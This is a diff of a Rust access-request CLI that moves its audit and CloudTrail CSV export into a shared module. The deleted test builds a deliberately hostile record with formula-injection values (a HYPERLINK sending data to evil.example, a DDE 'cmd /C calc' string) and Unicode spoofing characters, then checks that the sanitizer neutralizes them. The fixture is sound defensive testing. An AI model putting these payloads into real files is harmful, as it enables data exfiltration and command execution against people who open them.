@@ -3,7 +3,7 @@
 use crate::domain::{RequestId, Status, parse_time};
 use crate::error::{Error, Result};
 use crate::render::Format;
-use crate::render::sanitize::csv_cell;
+use crate::render::csv;
 use crate::render::tables;
 use crate::workflow::activity;
 use crate::workflow::audit::{self, Filter, Record};
@@ -123,72 +123,6 @@ pub enum Sub {
     Standing(super::standing::Args),
 }
 
-const CSV_HEADER: [&str; 19] = [
-    "id",
-    "status",
-    "mode",
-    "principal",
-    "requester",
-    "account_id",
-    "permission_set",
-    "reason",
-    "ticket",
-    "rules",
-    "policy_version",
-    "created_at",
-    "start_at",
-    "granted_at",
-    "end_at",
-    "ended_at",
-    "ended_by",
-    "prior_access",
-    "decisions",
-];
-
-fn csv_row(r: &Record) -> Vec<String> {
-    let t = |t: Option<jiff::Timestamp>| t.map(|t| t.to_string()).unwrap_or_default();
-    let decisions: Vec<String> = r
-        .decisions
-        .iter()
-        .map(|d| {
-            format!(
-                "{} by {} at {}{}",
-                d.kind,
-                d.by,
-                d.at,
-                d.comment
-                    .as_deref()
-                    .map(|c| format!(": {c}"))
-                    .unwrap_or_default()
-            )
-        })
-        .collect();
-    [
-        r.id.to_string(),
-        r.status.to_string(),
-        r.mode.to_string(),
-        r.principal.clone(),
-        r.requester.clone(),
-        r.account_id.clone(),
-        r.permission_set.clone(),
-        r.reason.clone(),
-        r.ticket.clone().unwrap_or_default(),
-        r.rules.join(" "),
-        r.policy_version.clone(),
-        r.created_at.to_string(),
-        t(r.start_at),
-        t(r.granted_at),
-        t(r.end_at),
-        t(r.ended_at),
-        r.ended_by.clone().unwrap_or_default(),
-        r.prior_access.map(|p| p.to_string()).unwrap_or_default(),
-        decisions.join("; "),
-    ]
-    .iter()
-    .map(|s| csv_cell(s))
-    .collect()
-}
-
 pub async fn run(ctx: &Ctx, args: Args) -> Result<()> {
     match args.command {
         Some(Sub::Verify) => return verify(ctx).await,
@@ -215,12 +149,10 @@ pub async fn run(ctx: &Ctx, args: Args) -> Result<()> {
     let store = ctx.store().await?;
     ctx.say_if_unsealed();
     let mut records = Vec::new();
-    let mut csv_out =
-        (format == AuditFormat::Csv).then(|| csv::Writer::from_writer(crate::render::QuietStdout));
-    if let Some(w) = csv_out.as_mut() {
-        w.write_record(CSV_HEADER)
-            .map_err(|e| Error::Config(format!("cannot write CSV: {e}")))?;
-    }
+    let mut csv_out = match format {
+        AuditFormat::Csv => Some(csv::Writer::start(&csv::CSV_HEADER)?),
+        _ => None,
+    };
     let mut sink = |r: Record| -> Result<()> {
         match format {
             AuditFormat::Jsonl => ctx.out.line(
@@ -230,8 +162,7 @@ pub async fn run(ctx: &Ctx, args: Args) -> Result<()> {
             AuditFormat::Csv => csv_out
                 .as_mut()
                 .expect("a CSV writer")
-                .write_record(csv_row(&r))
-                .map_err(|e| Error::Config(format!("cannot write CSV: {e}"))),
+                .row(csv::csv_row(&r)),
             AuditFormat::Json | AuditFormat::Table => {
                 records.push(r);
                 Ok(())
@@ -246,9 +177,8 @@ pub async fn run(ctx: &Ctx, args: Args) -> Result<()> {
         }
         None => audit::audit(store.as_ref(), &filter, now, &mut sink).await?,
     };
-    if let Some(mut w) = csv_out {
-        w.flush()
-            .map_err(|e| Error::Config(format!("cannot write CSV: {e}")))?;
+    if let Some(w) = csv_out {
+        w.finish()?;
     }
     match format {
         AuditFormat::Json => ctx.out.json(&records)?,
@@ -372,27 +302,11 @@ async fn activity(ctx: &Ctx, args: &Args) -> Result<()> {
         .request;
     let aws = ctx.aws().await?;
     let source = source(ctx, args, &aws.region)?;
-    let log = crate::aws::activity::AwsActivity::of(&aws);
-    let bar = (ctx.out.interactive && !ctx.out.quiet).then(|| {
-        let bar = indicatif::ProgressBar::new(0);
-        bar.set_style(
-            indicatif::ProgressStyle::with_template(
-                "{spinner} trail files {pos}/{len} {wide_bar} {eta}",
-            )
-            .unwrap_or_else(|_| indicatif::ProgressStyle::default_bar()),
-        );
-        bar
-    });
-    let progress = |done: usize, total: usize| {
-        if let Some(bar) = &bar {
-            bar.set_length(total as u64);
-            bar.set_position(done as u64);
-        }
-    };
+    let log = super::app::activity_log(&aws);
+    let bar = crate::render::progress::Counter::start(&ctx.out, "trail files");
+    let progress = |done: usize, total: usize| bar.set(done, total);
     let mut found = activity::activity(&log, &request, &source, ctx.now(), &progress).await?;
-    if let Some(bar) = bar {
-        bar.finish_and_clear();
-    }
+    bar.clear();
     if args.writes_only {
         found.retain(|a| a.is_write());
     }
@@ -411,31 +325,11 @@ async fn activity(ctx: &Ctx, args: &Args) -> Result<()> {
             }
         }
         AuditFormat::Csv => {
-            let mut w = csv::Writer::from_writer(crate::render::QuietStdout);
-            let io = |e: csv::Error| Error::Config(format!("cannot write CSV: {e}"));
-            w.write_record([
-                "time", "source", "event", "access", "region", "source_ip", "error", "caller",
-            ])
-            .map_err(io)?;
+            let mut w = csv::Writer::start(&csv::ACTIVITY_HEADER)?;
             for a in &found {
-                w.write_record(
-                    [
-                        a.time.to_string(),
-                        a.source.clone(),
-                        a.name.clone(),
-                        a.access().to_string(),
-                        a.region.clone(),
-                        a.source_ip.clone(),
-                        a.error_code.clone().unwrap_or_default(),
-                        a.caller.clone(),
-                    ]
-                    .iter()
-                    .map(|s| csv_cell(s)),
-                )
-                .map_err(io)?;
+                w.row(csv::activity_row(a))?;
             }
-            w.flush()
-                .map_err(|e| Error::Config(format!("cannot write CSV: {e}")))?;
+            w.finish()?;
         }
         AuditFormat::Table if found.is_empty() => ctx.out.note(&format!(
             "no CloudTrail events of request {id}'s sessions in its window (events reach CloudTrail up to 15 minutes late)"
@@ -443,59 +337,4 @@ async fn activity(ctx: &Ctx, args: &Args) -> Result<()> {
         AuditFormat::Table => ctx.out.table(&tables::activity(&found))?,
     }
     Ok(())
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    /// A record as a hostile requester and approver would fill it.
-    fn hostile() -> Record {
-        let at: jiff::Timestamp = "2026-01-01T00:00:00Z".parse().unwrap();
-        Record {
-            id: RequestId::from_entropy(7),
-            status: Status::Active,
-            mode: crate::domain::Mode::Required,
-            break_glass: false,
-            principal: "user:mallory\u{202E}nimda".into(),
-            requester: "user:mal\u{200B}lory".into(),
-            account_id: "111111111111".into(),
-            permission_set: "Admin".into(),
-            reason: "=HYPERLINK(\"https://evil.example/?\"&A1,\"fix\")".into(),
-            ticket: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
-            rules: vec!["r".into()],
-            policy_version: "v1".into(),
-            created_at: at,
-            start_at: None,
-            granted_at: None,
-            end_at: None,
-            ended_at: None,
-            ended_by: Some("-2+3".into()),
-            prior_access: None,
-            decisions: vec![crate::workflow::audit::Decision {
-                kind: "approved",
-                by: "user:bob".into(),
-                at,
-                comment: Some("ok\u{2066}\u{E0041}\u{FE0F}\u{3164}".into()),
-            }],
-        }
-    }
-
-    #[test]
-    fn csv_rows_are_neither_formulas_nor_hiding_places() {
-        let row = csv_row(&hostile());
-        assert_eq!(row.len(), CSV_HEADER.len());
-        let col = |name: &str| &row[CSV_HEADER.iter().position(|h| *h == name).unwrap()];
-        assert!(col("reason").starts_with("'="), "{}", col("reason"));
-        assert!(col("ticket").starts_with("'@"), "{}", col("ticket"));
-        assert!(col("ended_by").starts_with("'-"), "{}", col("ended_by"));
-        assert_eq!(col("principal"), "user:mallory\\u{202e}nimda");
-        assert_eq!(col("requester"), "user:mal\\u{200b}lory");
-        for cell in &row {
-            assert!(
-                !cell.chars().any(crate::render::sanitize::is_dangerous),
-                "{cell:?}"
-            );
-        }
-    }
 }
